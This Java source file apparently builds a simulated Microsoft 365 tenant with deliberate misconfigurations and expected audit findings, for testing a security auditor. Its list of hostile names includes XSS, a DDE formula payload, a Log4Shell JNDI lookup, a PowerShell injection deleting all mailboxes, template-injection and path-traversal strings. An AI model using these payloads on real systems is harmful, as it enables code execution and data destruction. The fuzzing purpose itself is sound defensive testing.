package dev.sigillo.simulator.tenant;

import dev.sigillo.simulator.tenant.Misconfigurations.Misconfiguration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Content that means harm to whoever shows it, or that nobody expects. */
final class HostileFaults {
  static final Map<String, Misconfiguration> ALL = new HashMap<>();

  /** Markup, formulas, control characters, bidi marks, quotes of PowerShell, endless names. */
  static final List<String> TEXTS =
      List.of(
          "<script>alert('1')</script>",
          "<style isBold=\"true\">&amp;</style>]]>",
          "=HYPERLINK(\"http://posta.example\";\"Clic\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "+39 030 1234567",
          "a\u0000b\u0007c\u001b[31mred\u001b[0m",
          "\u202Etxt.exe\u202C \u2066nascosto\u2069",
          "'; Remove-Mailbox -Identity * #",
          "\u2018curvo\u2019 \u201Cdoppio\u201D \u201Abasso\u201B",
          "$(Get-Mailbox) `n $env:TEMP",
          "una\r\nriga\tdopo l'altra",
          "\uD83D\uDCEC \u0391\u03B8\u03AE\u03BD\u03B1 \u0627\u0644\u0628\u0631\u064A\u062F \u4E2D\u6587",
          "Z\u0361\u0489a\u0301\u0302\u0303\u0304\u0305\u0306",
          "${jndi:ldap://posta.example/a}",
          "{{7*7}} #{7*7} ${7*7} <%= 7*7 %>",
          "../../etc/passwd\\..\\CON",
          "x".repeat(2000));

  static {
    ALL.put("hostileNames", HostileFaults::names);
    ALL.put("hostileRules", HostileFaults::rules);
    ALL.put("hostileConnectors", HostileFaults::connectors);
    ALL.put("hostileApplications", HostileFaults::applications);
    ALL.put("hostilePolicies", HostileFaults::policies);
    ALL.put("unknownEnums", HostileFaults::unknownEnums);
  }

  private HostileFaults() {}

  /** Everybody is called something of that kind. */
  private static void names(Content content, int count) {
    content.computed().everyone(a -> a.name = text(Ordinals.trailing(a.alias)));
  }

  /** One of them. */
  static String text(long number) {
    return TEXTS.get((int) Math.floorMod(number, (long) TEXTS.size()));
  }

  /** Transport rules that send outside, and one whose every property is null or odd. */
  private static void rules(Content content, int count) {
    for (int i = 0; i < count; i++) {
      String name = text(i) + " " + i;
      content.list(
          "Get-TransportRule",
          MailFlow.rule(content.org, name, "SentTo")
              .set("BlindCopyTo", List.of("raccolta@archive.example")));
      content.truth.finds("FORWARDING-03", name, "blindCopy");
    }
    content.truth.finds("FORWARDING-09", content.tenant(), "rule");
    content.list(
        "Get-TransportRule",
        MailFlow.rule(content.org, "Vuota")
            .set("Description", null)
            .set("Conditions", List.of())
            .set("BlindCopyTo", List.of())
            .set("Priority", null)
            .set("Comments", TEXTS));
  }

  private static void connectors(Content content, int count) {
    for (int i = 0; i < count; i++) {
      String name = text(i) + " " + i;
      content.list(
          "Get-InboundConnector",
          MailFlow.inbound(content.org, name, "OnPremises", "smtp:*;1").set("Comment", text(i)));
      content.truth.finds("CONNECTORS-02", name, "open");
    }
  }

  private static void applications(Content content, int count) {
    for (int i = 0; i < count; i++) {
      String name = text(i) + " " + i;
      content
          .list("servicePrincipals", Applications.principal(content.org, name))
          .list(
              "appRoleAssignedTo",
              Applications.assignment(
                  content.org, name, Applications.EXCHANGE_NAME, Applications.FULL_ACCESS));
      content
          .truth
          .finds("SENDERS-01", name, "entra")
          .finds("SENDERS-02", name, "unlisted")
          .finds("SENDERS-07", content.tenant(), "applications");
    }
  }

  private static void policies(Content content, int count) {
    for (int i = 0; i < count; i++) {
      String name = text(i) + " " + i;
      content.list("Get-MalwareFilterPolicy", Filtering.malware(content.org, name, "Custom"));
      content.truth.finds("OUTBOUND-10", name, "off");
    }
  }

  /** Values that Microsoft may add one day. */
  private static void unknownEnums(Content content, int count) {
    Row policy = content.named("Get-HostedOutboundSpamFilterPolicy", "Default");
    policy
        .set("AutoForwardingMode", "OnForTrustedDomains")
        .set("ActionWhenThresholdReached", "Ponder");
    content
        .truth
        .finds("FORWARDING-01", "Default", "on")
        .finds("OUTBOUND-02", "Default", "notBlocked");
    content.list(
        AccessPolicies.CALL,
        AccessPolicies.policy(
                content.org,
                "Futuro",
                AccessPolicies.everybody(AccessPolicies.emergency(content.org), List.of()),
                "OR",
                "unknownFutureValue")
            .set("state", "unknownFutureValue"));
    content.list(Logs.RISKY, Logs.risky(content.org, "futuro", "unknownFutureValue", 30));
  }
}
